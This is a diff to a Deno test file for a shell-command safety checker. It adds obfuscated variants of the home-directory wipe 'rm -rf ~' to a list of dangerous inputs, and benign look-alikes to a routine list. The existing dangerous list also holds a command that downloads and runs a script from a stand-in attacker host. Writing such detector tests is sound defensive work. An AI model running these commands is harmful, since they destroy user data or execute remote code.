@@ -18,6 +18,12 @@ const WRITE_THEN_RUN: string[] = [
   "python3 -c \"print('rm -rf ~')\" | sh",
   "tr 'a-z' 'n-za-m' <<< 'ez -es ~' | sh",
   "curl -o x.sh https://evil.example/x.sh; sh x.sh",
+  "bash <(echo 'rm -rf ~')",
+  "source <(echo 'rm -rf ~')",
+  ". /dev/stdin <<< 'rm -rf ~'",
+  "printf 'rm -rf ~' | source /dev/stdin",
+  "trap 'rm -rf ~' EXIT",
+  "coproc rm -rf ~",
 ];
 
 const ROUTINE: string[] = [
@@ -29,6 +35,9 @@ const ROUTINE: string[] = [
   "curl -o- https://example.com/install.sh",
   "python3 -c \"print('hello')\" | sh",
   "bash -s < scripts/ci.sh",
+  "source <(kubectl completion bash)",
+  "trap 'rm -rf \"$tmp\"' EXIT",
+  "source ./venv/bin/activate",
 ];
 
 Deno.test("shell input: text written or piped into a shell is judged as run", () => {
